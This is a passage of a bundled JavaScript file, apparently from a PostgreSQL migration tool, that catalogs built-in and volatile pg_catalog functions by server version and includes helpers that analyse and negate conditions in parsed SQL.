  pg_snapshot_xip pg_snapshot_xmax pg_snapshot_xmin pg_split_walfile_name pg_stat_get_activity
  pg_stat_get_analyze_count pg_stat_get_archiver pg_stat_get_autoanalyze_count
  pg_stat_get_autovacuum_count pg_stat_get_backend_activity pg_stat_get_backend_activity_start
  pg_stat_get_backend_client_addr pg_stat_get_backend_client_port pg_stat_get_backend_dbid
  pg_stat_get_backend_idset pg_stat_get_backend_pid pg_stat_get_backend_start
  pg_stat_get_backend_subxact pg_stat_get_backend_userid pg_stat_get_backend_wait_event
  pg_stat_get_backend_wait_event_type pg_stat_get_backend_xact_start
  pg_stat_get_bgwriter_buf_written_checkpoints pg_stat_get_bgwriter_buf_written_clean
  pg_stat_get_bgwriter_maxwritten_clean pg_stat_get_bgwriter_requested_checkpoints
  pg_stat_get_bgwriter_stat_reset_time pg_stat_get_bgwriter_timed_checkpoints
  pg_stat_get_blocks_fetched pg_stat_get_blocks_hit pg_stat_get_buf_alloc
  pg_stat_get_buf_fsync_backend pg_stat_get_buf_written_backend pg_stat_get_checkpoint_sync_time
  pg_stat_get_checkpoint_write_time pg_stat_get_checkpointer_buffers_written
  pg_stat_get_checkpointer_num_performed pg_stat_get_checkpointer_num_requested
  pg_stat_get_checkpointer_num_timed pg_stat_get_checkpointer_restartpoints_performed
  pg_stat_get_checkpointer_restartpoints_requested pg_stat_get_checkpointer_restartpoints_timed
  pg_stat_get_checkpointer_slru_written pg_stat_get_checkpointer_stat_reset_time
  pg_stat_get_checkpointer_sync_time pg_stat_get_checkpointer_write_time
  pg_stat_get_db_active_time pg_stat_get_db_blk_read_time pg_stat_get_db_blk_write_time
  pg_stat_get_db_blocks_fetched pg_stat_get_db_blocks_hit pg_stat_get_db_checksum_failures
  pg_stat_get_db_checksum_last_failure pg_stat_get_db_conflict_all
  pg_stat_get_db_conflict_bufferpin pg_stat_get_db_conflict_lock
  pg_stat_get_db_conflict_logicalslot pg_stat_get_db_conflict_snapshot
  pg_stat_get_db_conflict_startup_deadlock pg_stat_get_db_conflict_tablespace
  pg_stat_get_db_deadlocks pg_stat_get_db_idle_in_transaction_time pg_stat_get_db_numbackends
  pg_stat_get_db_parallel_workers_launched pg_stat_get_db_parallel_workers_to_launch
  pg_stat_get_db_session_time pg_stat_get_db_sessions pg_stat_get_db_sessions_abandoned
  pg_stat_get_db_sessions_fatal pg_stat_get_db_sessions_killed pg_stat_get_db_stat_reset_time
  pg_stat_get_db_temp_bytes pg_stat_get_db_temp_files pg_stat_get_db_tuples_deleted
  pg_stat_get_db_tuples_fetched pg_stat_get_db_tuples_inserted pg_stat_get_db_tuples_returned
  pg_stat_get_db_tuples_updated pg_stat_get_db_xact_commit pg_stat_get_db_xact_rollback
  pg_stat_get_dead_tuples pg_stat_get_function_calls pg_stat_get_function_self_time
  pg_stat_get_function_total_time pg_stat_get_ins_since_vacuum pg_stat_get_last_analyze_time
  pg_stat_get_last_autoanalyze_time pg_stat_get_last_autovacuum_time pg_stat_get_last_vacuum_time
  pg_stat_get_lastscan pg_stat_get_live_tuples pg_stat_get_mod_since_analyze pg_stat_get_numscans
  pg_stat_get_progress_info pg_stat_get_replication_slot pg_stat_get_slru
  pg_stat_get_snapshot_timestamp pg_stat_get_subscription pg_stat_get_subscription_stats
  pg_stat_get_total_analyze_time pg_stat_get_total_autoanalyze_time
  pg_stat_get_total_autovacuum_time pg_stat_get_total_vacuum_time pg_stat_get_tuples_deleted
  pg_stat_get_tuples_fetched pg_stat_get_tuples_hot_updated pg_stat_get_tuples_inserted
  pg_stat_get_tuples_newpage_updated pg_stat_get_tuples_returned pg_stat_get_tuples_updated
  pg_stat_get_vacuum_count pg_stat_get_wal pg_stat_get_wal_receiver pg_stat_get_wal_senders
  pg_statistics_obj_is_visible pg_table_is_visible pg_tablespace_databases pg_tablespace_location
  pg_timezone_abbrevs pg_timezone_abbrevs_abbrevs pg_timezone_abbrevs_zone pg_timezone_names
  pg_trigger_depth pg_ts_config_is_visible pg_ts_dict_is_visible pg_ts_parser_is_visible
  pg_ts_template_is_visible pg_type_is_visible pg_typeof pg_visible_in_snapshot pg_wal_lsn_diff
  pg_walfile_name pg_walfile_name_offset phraseto_tsquery pi plainto_tsquery point point_above
  point_add point_below point_distance point_div point_eq point_horiz point_in point_left
  point_mul point_ne point_out point_recv point_right point_send point_sub point_vert poly_above
  poly_below poly_center poly_contain poly_contain_pt poly_contained poly_distance poly_in
  poly_left poly_npoints poly_out poly_overabove poly_overbelow poly_overlap poly_overleft
  poly_overright poly_recv poly_right poly_same poly_send polygon popen position positionjoinsel
  positionsel postgresql_fdw_validator pow power prefixjoinsel prefixsel prsd_end prsd_headline
  prsd_lextype prsd_nexttoken prsd_start pt_contained_circle pt_contained_poly querytree
  quote_ident quote_literal quote_nullable radians radius range_adjacent range_adjacent_multirange
  range_after range_after_multirange range_agg range_agg_finalfn range_agg_transfn range_before
  range_before_multirange range_cmp range_contained_by range_contained_by_multirange
  range_contains range_contains_elem range_contains_elem_support range_contains_multirange
  range_eq range_ge range_gist_consistent range_gist_penalty range_gist_picksplit range_gist_same
  range_gist_union range_gt range_in range_intersect range_intersect_agg
  range_intersect_agg_transfn range_le range_lt range_merge range_minus range_ne range_out
  range_overlaps range_overlaps_multirange range_overleft range_overleft_multirange
  range_overright range_overright_multirange range_recv range_send range_sortsupport
  range_typanalyze range_union rangesel rank rank_final raw_array_subscript_handler record_eq
  record_ge record_gt record_image_eq record_image_ge record_image_gt record_image_le
  record_image_lt record_image_ne record_in record_larger record_le record_lt record_ne record_out
  record_recv record_send record_smaller regclass regclassin regclassout regclassrecv regclasssend
  regcollationin regcollationout regcollationrecv regcollationsend regconfigin regconfigout
  regconfigrecv regconfigsend regdictionaryin regdictionaryout regdictionaryrecv regdictionarysend
  regexeqjoinsel regexeqsel regexnejoinsel regexnesel regexp_count regexp_instr regexp_like
  regexp_match regexp_matches regexp_replace regexp_split_to_array regexp_split_to_table
  regexp_substr regnamespacein regnamespaceout regnamespacerecv regnamespacesend regoperatorin
  regoperatorout regoperatorrecv regoperatorsend regoperin regoperout regoperrecv regopersend
  regprocedurein regprocedureout regprocedurerecv regproceduresend regprocin regprocout
  regprocrecv regprocsend regr_avgx regr_avgy regr_count regr_intercept regr_r2 regr_slope
  regr_sxx regr_sxy regr_syy regrolein regroleout regrolerecv regrolesend regtypein regtypeout
  regtyperecv regtypesend repeat replace reverse right round row_number row_security_active
  row_to_json rpad rtrim satisfies_hash_partition scalargejoinsel scalargesel scalargtjoinsel
  scalargtsel scalarlejoinsel scalarlesel scalarltjoinsel scalarltsel scale schema_to_xml
  schema_to_xml_and_xmlschema schema_to_xmlschema session_user set_bit set_byte set_masklen
  setweight sha224 sha256 sha384 sha512 shell_in shell_out shift_jis_2004_to_euc_jis_2004
  shift_jis_2004_to_utf8 shobj_description sign similar_escape similar_to_escape sin sind sinh
  sjis_to_euc_jp sjis_to_mic sjis_to_utf8 slope spg_bbox_quad_config spg_box_quad_choose
  spg_box_quad_config spg_box_quad_inner_consistent spg_box_quad_leaf_consistent
  spg_box_quad_picksplit spg_kd_choose spg_kd_config spg_kd_inner_consistent spg_kd_picksplit
  spg_poly_quad_compress spg_quad_choose spg_quad_config spg_quad_inner_consistent
  spg_quad_leaf_consistent spg_quad_picksplit spg_range_quad_choose spg_range_quad_config
  spg_range_quad_inner_consistent spg_range_quad_leaf_consistent spg_range_quad_picksplit
  spg_text_choose spg_text_config spg_text_inner_consistent spg_text_leaf_consistent
  spg_text_picksplit split_part sqrt starts_with statement_timestamp stddev stddev_pop stddev_samp
  string_agg string_agg_combine string_agg_deserialize string_agg_finalfn string_agg_serialize
  string_agg_transfn string_to_array string_to_table strip strpos substr substring sum system_user
  table_am_handler_in table_am_handler_out table_to_xml table_to_xml_and_xmlschema
  table_to_xmlschema tan tand tanh text text_ge text_gt text_larger text_le text_lt
  text_pattern_ge text_pattern_gt text_pattern_le text_pattern_lt text_smaller
  text_starts_with_support textanycat textcat texteq texteqname textgename textgtname texticlike
  texticlike_support texticnlike texticregexeq texticregexeq_support texticregexne textin textlen
  textlename textlike textlike_support textltname textne textnename textnlike textout textrecv
  textregexeq textregexeq_support textregexne textsend thesaurus_init thesaurus_lexize tideq tidge
  tidgt tidin tidlarger tidle tidlt tidne tidout tidrecv tidsend tidsmaller time time_cmp time_eq
  time_ge time_gt time_hash time_hash_extended time_in time_larger time_le time_lt
  time_mi_interval time_mi_time time_ne time_out time_pl_interval time_recv time_send time_smaller
  time_support timedate_pl timestamp timestamp_cmp timestamp_cmp_date timestamp_cmp_timestamptz
  timestamp_eq timestamp_eq_date timestamp_eq_timestamptz timestamp_ge timestamp_ge_date
  timestamp_ge_timestamptz timestamp_gt timestamp_gt_date timestamp_gt_timestamptz timestamp_hash
  timestamp_hash_extended timestamp_in timestamp_larger timestamp_le timestamp_le_date
  timestamp_le_timestamptz timestamp_lt timestamp_lt_date timestamp_lt_timestamptz timestamp_mi
  timestamp_mi_interval timestamp_ne timestamp_ne_date timestamp_ne_timestamptz timestamp_out
  timestamp_pl_interval timestamp_recv timestamp_send timestamp_skipsupport timestamp_smaller
  timestamp_sortsupport timestamp_support timestamptypmodin timestamptypmodout timestamptz
  timestamptz_cmp timestamptz_cmp_date timestamptz_cmp_timestamp timestamptz_eq
  timestamptz_eq_date timestamptz_eq_timestamp timestamptz_ge timestamptz_ge_date
  timestamptz_ge_timestamp timestamptz_gt timestamptz_gt_date timestamptz_gt_timestamp
  timestamptz_hash timestamptz_hash_extended timestamptz_in timestamptz_larger timestamptz_le
  timestamptz_le_date timestamptz_le_timestamp timestamptz_lt timestamptz_lt_date
  timestamptz_lt_timestamp timestamptz_mi timestamptz_mi_interval timestamptz_ne
  timestamptz_ne_date timestamptz_ne_timestamp timestamptz_out timestamptz_pl_interval
  timestamptz_recv timestamptz_send timestamptz_smaller timestamptztypmodin timestamptztypmodout
  timetypmodin timetypmodout timetz timetz_cmp timetz_eq timetz_ge timetz_gt timetz_hash
  timetz_hash_extended timetz_in timetz_larger timetz_le timetz_lt timetz_mi_interval timetz_ne
  timetz_out timetz_pl_interval timetz_recv timetz_send timetz_smaller timetzdate_pl
  timetztypmodin timetztypmodout to_ascii to_bin to_char to_date to_hex to_json to_jsonb to_number
  to_oct to_regclass to_regcollation to_regnamespace to_regoper to_regoperator to_regproc
  to_regprocedure to_regrole to_regtype to_regtypemod to_timestamp to_tsquery to_tsvector
  transaction_timestamp translate trigger_in trigger_out trim_array trim_scale trunc ts_debug
  ts_delete ts_filter ts_headline ts_lexize ts_match_qv ts_match_tq ts_match_tt ts_match_vq
  ts_parse ts_rank ts_rank_cd ts_token_type ts_typanalyze tsm_handler_in tsm_handler_out
  tsmatchjoinsel tsmatchsel tsmultirange tsq_mcontained tsq_mcontains tsquery_and tsquery_cmp
  tsquery_eq tsquery_ge tsquery_gt tsquery_le tsquery_lt tsquery_ne tsquery_not tsquery_or
  tsquery_phrase tsqueryin tsqueryout tsqueryrecv tsquerysend tsrange tsrange_subdiff
  tstzmultirange tstzrange tstzrange_subdiff tsvector_cmp tsvector_concat tsvector_eq tsvector_ge
  tsvector_gt tsvector_le tsvector_lt tsvector_ne tsvector_to_array tsvectorin tsvectorout
  tsvectorrecv tsvectorsend txid_current txid_current_if_assigned txid_current_snapshot
  txid_snapshot_in txid_snapshot_out txid_snapshot_recv txid_snapshot_send txid_snapshot_xip
  txid_snapshot_xmax txid_snapshot_xmin txid_visible_in_snapshot uhc_to_utf8 unicode_assigned
  unicode_version unistr unknownin unknownout unknownrecv unknownsend unnest upper upper_inc
  upper_inf utf8_to_big5 utf8_to_euc_cn utf8_to_euc_jis_2004 utf8_to_euc_jp utf8_to_euc_kr
  utf8_to_euc_tw utf8_to_gb18030 utf8_to_gbk utf8_to_iso8859 utf8_to_iso8859_1 utf8_to_johab
  utf8_to_koi8r utf8_to_koi8u utf8_to_shift_jis_2004 utf8_to_sjis utf8_to_uhc utf8_to_win uuid_cmp
  uuid_eq uuid_extract_timestamp uuid_extract_version uuid_ge uuid_gt uuid_hash uuid_hash_extended
  uuid_in uuid_le uuid_lt uuid_ne uuid_out uuid_recv uuid_send uuid_skipsupport uuid_sortsupport
  var_pop var_samp varbit varbit_in varbit_out varbit_recv varbit_send varbit_support varbitcmp
  varbiteq varbitge varbitgt varbitle varbitlt varbitne varbittypmodin varbittypmodout varchar
  varchar_support varcharin varcharout varcharrecv varcharsend varchartypmodin varchartypmodout
  variance version void_in void_out void_recv void_send websearch_to_tsquery width width_bucket
  win1250_to_latin2 win1250_to_mic win1251_to_iso win1251_to_koi8r win1251_to_mic
  win1251_to_win866 win866_to_iso win866_to_koi8r win866_to_mic win866_to_win1251 win_to_utf8
  window_cume_dist_support window_dense_rank_support window_ntile_support
  window_percent_rank_support window_rank_support window_row_number_support xid xid8_larger
  xid8_smaller xid8cmp xid8eq xid8ge xid8gt xid8in xid8le xid8lt xid8ne xid8out xid8recv xid8send
  xideq xideqint4 xidin xidneq xidneqint4 xidout xidrecv xidsend xml xml_in xml_is_well_formed
  xml_is_well_formed_content xml_is_well_formed_document xml_out xml_recv xml_send xmlagg
  xmlcomment xmlconcat2 xmlexists xmltext xmlvalidate xpath xpath_exists
`);
/** Those with an overload that is volatile on at least one major. */
const volatileFunctions = new Set(words$3(`
  RI_FKey_cascade_del RI_FKey_cascade_upd RI_FKey_check_ins RI_FKey_check_upd RI_FKey_noaction_del
  RI_FKey_noaction_upd RI_FKey_restrict_del RI_FKey_restrict_upd RI_FKey_setdefault_del
  RI_FKey_setdefault_upd RI_FKey_setnull_del RI_FKey_setnull_upd amvalidate array_sample
  array_shuffle bernoulli binary_upgrade_add_sub_rel_state binary_upgrade_create_empty_extension
  binary_upgrade_logical_slot_has_caught_up binary_upgrade_replorigin_advance
  binary_upgrade_set_missing_value binary_upgrade_set_next_array_pg_type_oid
  binary_upgrade_set_next_heap_pg_class_oid binary_upgrade_set_next_heap_relfilenode
  binary_upgrade_set_next_index_pg_class_oid binary_upgrade_set_next_index_relfilenode
  binary_upgrade_set_next_multirange_array_pg_type_oid
  binary_upgrade_set_next_multirange_pg_type_oid binary_upgrade_set_next_pg_authid_oid
  binary_upgrade_set_next_pg_enum_oid binary_upgrade_set_next_pg_tablespace_oid
  binary_upgrade_set_next_pg_type_oid binary_upgrade_set_next_toast_pg_class_oid
  binary_upgrade_set_next_toast_relfilenode binary_upgrade_set_record_init_privs
  brin_desummarize_range brin_summarize_new_values brin_summarize_range brinhandler bthandler
  clock_timestamp current_query currtid2 currval cursor_to_xml cursor_to_xmlschema dsnowball_init
  dsnowball_lexize gen_random_uuid gin_clean_pending_list ginhandler gisthandler hashhandler
  heap_tableam_handler lastval lo_close lo_creat lo_create lo_export lo_from_bytea lo_get
  lo_import lo_lseek lo_lseek64 lo_open lo_put lo_tell lo_tell64 lo_truncate lo_truncate64
  lo_unlink loread lowrite nextval pg_advisory_lock pg_advisory_lock_shared pg_advisory_unlock
  pg_advisory_unlock_all pg_advisory_unlock_shared pg_advisory_xact_lock
  pg_advisory_xact_lock_shared pg_available_wal_summaries pg_backup_start pg_backup_stop
  pg_blocking_pids pg_cancel_backend pg_clear_attribute_stats pg_clear_relation_stats
  pg_collation_actual_version pg_control_checkpoint pg_control_init pg_control_recovery
  pg_control_system pg_copy_logical_replication_slot pg_copy_physical_replication_slot
  pg_create_logical_replication_slot pg_create_physical_replication_slot pg_create_restore_point
  pg_current_logfile pg_current_wal_flush_lsn pg_current_wal_insert_lsn pg_current_wal_lsn
  pg_database_collation_actual_version pg_database_size pg_drop_replication_slot
  pg_export_snapshot pg_extension_config_dump pg_get_aios pg_get_backend_memory_contexts
  pg_get_loaded_modules pg_get_multixact_members pg_get_sequence_data pg_get_shmem_allocations
  pg_get_shmem_allocations_numa pg_get_wait_events pg_get_wal_replay_pause_state
  pg_get_wal_resource_managers pg_get_wal_summarizer_state pg_hba_file_rules
  pg_ident_file_mappings pg_import_system_collations pg_indexes_size pg_is_in_backup
  pg_is_in_recovery pg_is_wal_replay_paused pg_isolation_test_session_is_blocked pg_jit_available
  pg_last_committed_xact pg_last_wal_receive_lsn pg_last_wal_replay_lsn
  pg_last_xact_replay_timestamp pg_lock_status pg_log_backend_memory_contexts
  pg_log_standby_snapshot pg_logical_emit_message pg_logical_slot_get_binary_changes
  pg_logical_slot_get_changes pg_logical_slot_peek_binary_changes pg_logical_slot_peek_changes
  pg_ls_archive_statusdir pg_ls_dir pg_ls_logdir pg_ls_logicalmapdir pg_ls_logicalsnapdir
  pg_ls_replslotdir pg_ls_summariesdir pg_ls_tmpdir pg_ls_waldir pg_nextoid
  pg_notification_queue_usage pg_notify pg_partition_ancestors pg_partition_tree pg_prepared_xact
  pg_promote pg_read_binary_file pg_read_file pg_read_file_old pg_relation_size pg_reload_conf
  pg_replication_origin_advance pg_replication_origin_create pg_replication_origin_drop
  pg_replication_origin_progress pg_replication_origin_session_is_setup
  pg_replication_origin_session_progress pg_replication_origin_session_reset
  pg_replication_origin_session_setup pg_replication_origin_xact_reset
  pg_replication_origin_xact_setup pg_replication_slot_advance pg_restore_attribute_stats
  pg_restore_relation_stats pg_rotate_logfile pg_rotate_logfile_old pg_safe_snapshot_blocking_pids
  pg_sequence_last_value pg_show_all_file_settings pg_show_replication_origin_status pg_sleep
  pg_sleep_for pg_sleep_until pg_start_backup pg_stat_clear_snapshot pg_stat_file
  pg_stat_force_next_flush pg_stat_get_backend_io pg_stat_get_backend_wal pg_stat_get_io
  pg_stat_get_recovery_prefetch pg_stat_get_xact_blocks_fetched pg_stat_get_xact_blocks_hit
  pg_stat_get_xact_function_calls pg_stat_get_xact_function_self_time
  pg_stat_get_xact_function_total_time pg_stat_get_xact_numscans pg_stat_get_xact_tuples_deleted
  pg_stat_get_xact_tuples_fetched pg_stat_get_xact_tuples_hot_updated
  pg_stat_get_xact_tuples_inserted pg_stat_get_xact_tuples_newpage_updated
  pg_stat_get_xact_tuples_returned pg_stat_get_xact_tuples_updated pg_stat_have_stats
  pg_stat_reset pg_stat_reset_backend_stats pg_stat_reset_replication_slot pg_stat_reset_shared
  pg_stat_reset_single_function_counters pg_stat_reset_single_table_counters pg_stat_reset_slru
  pg_stat_reset_subscription_stats pg_stop_backup pg_stop_making_pinned_objects pg_switch_wal
  pg_sync_replication_slots pg_table_size pg_tablespace_size pg_terminate_backend
  pg_total_relation_size pg_try_advisory_lock pg_try_advisory_lock_shared
  pg_try_advisory_xact_lock pg_try_advisory_xact_lock_shared pg_wal_replay_pause
  pg_wal_replay_resume pg_wal_summary_contents pg_xact_commit_timestamp
  pg_xact_commit_timestamp_origin pg_xact_status plpgsql_call_handler plpgsql_inline_handler
  plpgsql_validator query_to_xml query_to_xml_and_xmlschema query_to_xmlschema random
  random_normal set_config setseed setval spghandler suppress_redundant_updates_trigger system
  timeofday timezone ts_rewrite ts_stat tsvector_update_trigger tsvector_update_trigger_column
  txid_status unique_key_recheck uuidv4 uuidv7
`));
const builtinFunctions = /* @__PURE__ */ new Set([...steady, ...volatileFunctions]);
/** Those that are not there on every major: the first and the last one, `name:16-17`; either may be open. */
const functionSpans = words$3(`
  any_value:16- any_value_transfn:16- array_agg_array_combine:16- array_agg_array_deserialize:16-
  array_agg_array_serialize:16- array_agg_combine:16- array_agg_deserialize:16-
  array_agg_serialize:16- array_append_support:18- array_prepend_support:18- array_reverse:18-
  array_sample:16- array_shuffle:16- array_sort:18- array_subscript_handler_support:18-
  binary_upgrade_add_sub_rel_state:17- binary_upgrade_logical_slot_has_caught_up:17-
  binary_upgrade_replorigin_advance:17- binary_upgrade_set_next_heap_relfilenode:15-
  binary_upgrade_set_next_index_relfilenode:15- binary_upgrade_set_next_pg_tablespace_oid:15-
  binary_upgrade_set_next_toast_relfilenode:15- btboolskipsupport:18- btcharskipsupport:18-
  btint2skipsupport:18- btint4skipsupport:18- btint8skipsupport:18- btoidskipsupport:18- bytea:18-
  bytea_larger:18- bytea_smaller:18- casefold:18- close_lb:-14 close_sl:-14 crc32:18- crc32c:18-
  date_add:16- date_skipsupport:18- date_subtract:16- dist_bl:-14 dist_lb:-14
  elem_contained_by_range_support:17- erf:16- erfc:16- gamma:18-
  generate_series_numeric_support:18- generate_series_timestamp_support:18-
  gist_translate_cmptype_common:18- has_largeobject_privilege:18- has_parameter_privilege:15-
  hashbool:18- hashboolextended:18- hashbytea:18- hashbyteaextended:18- hashcid:18-
  hashcidextended:18- hashdate:18- hashdateextended:18- hashxid:18- hashxid8:18-
  hashxid8extended:18- hashxidextended:18- icu_unicode_version:17- int8inc_support:15-
  interval_accum:-16 interval_accum_inv:-16 interval_avg_accum:17- interval_avg_accum_inv:17-
  interval_avg_combine:17- interval_avg_deserialize:17- interval_avg_serialize:17-
  interval_combine:-16 interval_sum:17- json_agg_strict:16- json_agg_strict_transfn:16-
  json_object_agg_strict:16- json_object_agg_strict_transfn:16- json_object_agg_unique:16-
  json_object_agg_unique_strict:16- json_object_agg_unique_strict_transfn:16-
  json_object_agg_unique_transfn:16- jsonb_agg_strict:16- jsonb_agg_strict_transfn:16-
  jsonb_object_agg_strict:16- jsonb_object_agg_strict_transfn:16- jsonb_object_agg_unique:16-
  jsonb_object_agg_unique_strict:16- jsonb_object_agg_unique_strict_transfn:16-
  jsonb_object_agg_unique_transfn:16- jsonb_populate_record_valid:17- lgamma:18-
  multirange_agg_finalfn:15- multirange_agg_transfn:15- path_center:-14
  pg_available_wal_summaries:17- pg_backup_start:15- pg_backup_start_time:-14 pg_backup_stop:15-
  pg_basetype:17- pg_clear_attribute_stats:18- pg_clear_relation_stats:18-
  pg_column_toast_chunk_id:17- pg_database_collation_actual_version:15- pg_get_acl:18-
  pg_get_aios:18- pg_get_loaded_modules:18- pg_get_sequence_data:18-
  pg_get_shmem_allocations_numa:18- pg_get_wait_events:17- pg_get_wal_resource_managers:15-
  pg_get_wal_summarizer_state:17- pg_ident_file_mappings:15- pg_input_error_info:16-
  pg_input_is_valid:16- pg_is_in_backup:-14 pg_log_standby_snapshot:16- pg_ls_logicalmapdir:15-
  pg_ls_logicalsnapdir:15- pg_ls_replslotdir:15- pg_ls_summariesdir:18- pg_numa_available:18-
  pg_read_file_old:-16 pg_restore_attribute_stats:18- pg_restore_relation_stats:18-
  pg_rotate_logfile_old:-16 pg_settings_get_flags:15- pg_split_walfile_name:16-
  pg_start_backup:-14 pg_stat_force_next_flush:15- pg_stat_get_backend_io:18-
  pg_stat_get_backend_subxact:16- pg_stat_get_backend_wal:18-
  pg_stat_get_bgwriter_buf_written_checkpoints:-16 pg_stat_get_bgwriter_requested_checkpoints:-16
  pg_stat_get_bgwriter_timed_checkpoints:-16 pg_stat_get_buf_fsync_backend:-16
  pg_stat_get_buf_written_backend:-16 pg_stat_get_checkpoint_sync_time:-16
  pg_stat_get_checkpoint_write_time:-16 pg_stat_get_checkpointer_buffers_written:17-
  pg_stat_get_checkpointer_num_performed:18- pg_stat_get_checkpointer_num_requested:17-
  pg_stat_get_checkpointer_num_timed:17- pg_stat_get_checkpointer_restartpoints_performed:17-
  pg_stat_get_checkpointer_restartpoints_requested:17-
  pg_stat_get_checkpointer_restartpoints_timed:17- pg_stat_get_checkpointer_slru_written:18-
  pg_stat_get_checkpointer_stat_reset_time:17- pg_stat_get_checkpointer_sync_time:17-
  pg_stat_get_checkpointer_write_time:17- pg_stat_get_db_conflict_logicalslot:16-
  pg_stat_get_db_parallel_workers_launched:18- pg_stat_get_db_parallel_workers_to_launch:18-
  pg_stat_get_io:16- pg_stat_get_lastscan:16- pg_stat_get_recovery_prefetch:15-
  pg_stat_get_subscription_stats:15- pg_stat_get_total_analyze_time:18-
  pg_stat_get_total_autoanalyze_time:18- pg_stat_get_total_autovacuum_time:18-
  pg_stat_get_total_vacuum_time:18- pg_stat_get_tuples_newpage_updated:16-
  pg_stat_get_xact_tuples_newpage_updated:16- pg_stat_have_stats:15-
  pg_stat_reset_backend_stats:18- pg_stat_reset_subscription_stats:15- pg_stop_backup:-14
  pg_stop_making_pinned_objects:15- pg_sync_replication_slots:17- pg_timezone_abbrevs:-17
  pg_timezone_abbrevs_abbrevs:18- pg_timezone_abbrevs_zone:18- pg_wal_summary_contents:17-
  random_normal:16- range_contains_elem_support:17- range_sortsupport:18- record_larger:18-
  record_smaller:18- regexp_count:15- regexp_instr:15- regexp_like:15- regexp_substr:15-
  string_agg_combine:16- string_agg_deserialize:16- string_agg_serialize:16- system_user:16-
  text_starts_with_support:15- timestamp_skipsupport:18- timestamptz_hash:18-
  timestamptz_hash_extended:18- to_bin:17- to_oct:17- to_regtypemod:17- unicode_assigned:17-
  unicode_version:17- uuid_extract_timestamp:17- uuid_extract_version:17- uuid_skipsupport:18-
  uuidv4:18- uuidv7:18- window_cume_dist_support:16- window_dense_rank_support:15-
  window_ntile_support:16- window_percent_rank_support:16- window_rank_support:15-
  window_row_number_support:15- xid8_larger:15- xid8_smaller:15- xmltext:17-
`);
const spans = new Map(functionSpans.map((span) => {
	const [name = "", majors = ""] = span.split(":");
	const [from = "", to = ""] = majors.split("-");
	const last = to === "" ? Number.POSITIVE_INFINITY : Number(to);
	return [name, {
		from: Number(from),
		to: last
	}];
}));
/**
* Whether PostgreSQL has a function of this name in pg_catalog on the given major; on any, where nobody said
* which. Where it has none, whoever calls it means somebody's own function.
*/
function isBuiltin(name, postgres) {
	const span = spans.get(name);
	if (span === void 0 || postgres === void 0) return builtinFunctions.has(name);
	return span.from <= postgres && postgres <= span.to;
}
/** Whether every major that Sluice knows has it, so that nobody's own function can be meant. */
function isAlwaysBuiltin(name) {
	return builtinFunctions.has(name) && !spans.has(name);
}
/** Columns that every table has. */
const systemColumns = /* @__PURE__ */ new Set([
	"tableoid",
	"xmin",
	"cmin",
	"xmax",
	"cmax"
]);
/** The operator without its schema. */
function operatorOf(expression) {
	return namesOf(expression.name).at(-1) ?? "";
}
/** Volatile by declaration, but the same within one transaction that does nothing to it. */
const settledVolatile = /* @__PURE__ */ new Set([
	"currval",
	"lastval",
	"current_query",
	"timezone"
]);
/** Whether a built-in function in it answers differently from row to row or from run to run. */
function isVolatile(node) {
	return someNode(node, (inner) => {
		const name = namesOf(nodeAs(inner, "FuncCall")?.funcname).at(-1) ?? "";
		return volatileFunctions.has(name) && !settledVolatile.has(name);
	});
}
/** Whether a new column's default may differ from row to row: a function that is not known to be stable. */
function mayBeVolatile(node, postgres) {
	return someNode(node, (inner) => {
		const name = namesOf(nodeAs(inner, "FuncCall")?.funcname).at(-1);
		return name !== void 0 && (volatileFunctions.has(name) || !isBuiltin(name, postgres));
	});
}
/** Whether it says the same of every row: no column of the target stands in it. */
function isConstantForRows(node) {
	const pending = [node];
	for (let here = pending.pop(); here !== void 0; here = pending.pop()) {
		if (hasTag(here, "ColumnRef") || hasTag(here, "CurrentOfExpr")) return false;
		const link = nodeAs(here, "SubLink");
		if (link !== void 0) {
			if (!isUncorrelated(link.subselect)) return false;
			if (link.testexpr !== void 0) pending.push(link.testexpr);
		} else pending.push(...Object.values(here).filter(isObject));
	}
	return true;
}
function isObject(value) {
	return typeof value === "object" && value !== null;
}
/** Every column that it names belongs to one of its own tables, by qualification. */
function isUncorrelated(select) {
	const own = /* @__PURE__ */ new Set();
	someNode(select, (node) => {
		const table = nodeAs(node, "RangeVar");
		if (table !== void 0) own.add(table.alias?.aliasname ?? table.relname ?? "");
		return false;
	});
	return !someNode(select, (node) => {
		const names = namesOf(nodeAs(node, "ColumnRef")?.fields);
		return hasTag(node, "ColumnRef") && !own.has(names.at(-2) ?? "");
	});
}
const opposites = {
	"=": "<>",
	"<>": "=",
	"<": ">=",
	">=": "<",
	">": "<=",
	"<=": ">",
	"~~": "!~~",
	"!~~": "~~",
	"~~*": "!~~*",
	"!~~*": "~~*",
	"~": "!~",
	"!~": "~",
	"~*": "!~*",
	"!~*": "~*"
};
/** The condition that holds where this one does not, as far as it can be written; NULL counts for neither. */
function negated(node) {
	const bool = nodeAs(node, "BoolExpr");
	if (bool !== void 0) {
		const args = bool.args ?? [];
		if (bool.boolop === "NOT_EXPR") return args[0];
		return { BoolExpr: {
			boolop: bool.boolop === "AND_EXPR" ? "OR_EXPR" : "AND_EXPR",
			args: args.map((arg) => negated(arg) ?? not(arg))
		} };
	}
	const test = nodeAs(node, "NullTest");
	if (test !== void 0) {
		const nulltesttype = test.nulltesttype === "IS_NULL" ? "IS_NOT_NULL" : "IS_NULL";
		return { NullTest: {
			...test,
			nulltesttype
		} };
	}
	const expression = nodeAs(node, "A_Expr");
	return expression === void 0 ? void 0 : negatedExpression(expression);
}
function not(node) {
	return { BoolExpr: {
		boolop: "NOT_EXPR",
		args: [node]
	} };
}
function negatedExpression(expression) {
	switch (expression.kind) {
		case "AEXPR_OP":
		case "AEXPR_IN":
		case "AEXPR_LIKE":
		case "AEXPR_ILIKE":
		case "AEXPR_SIMILAR": {
			const operator = opposites[operatorOf(expression)];
			if (operator === void 0 || expression.lexpr === void 0) return void 0;
			return { A_Expr: {
				...expression,
				name: [{ String: { sval: operator } }]
			} };
		}
		case "AEXPR_DISTINCT": return { A_Expr: {
			...expression,
			kind: "AEXPR_NOT_DISTINCT"
		} };
		case "AEXPR_NOT_DISTINCT": return { A_Expr: {
			...expression,
			kind: "AEXPR_DISTINCT"
		} };
		default: return;
	}
}
const flips = {
	"=": "=",
	"<>": "<>",
	"<": ">",
	">": "<",
	"<=": ">=",
	">=": "<="
};
/** The comparison with its constant on the right, and without operands that change nothing. */
function settled(expression) {
	const { lexpr, rexpr } = expression;
	if (lexpr === void 0 || rexpr === void 0) return expression;
	const operator = operatorOf(expression);
	const turned = constantText(lexpr) !== void 0 && constantText(rexpr) === void 0;
	const flipped = flips[operator];
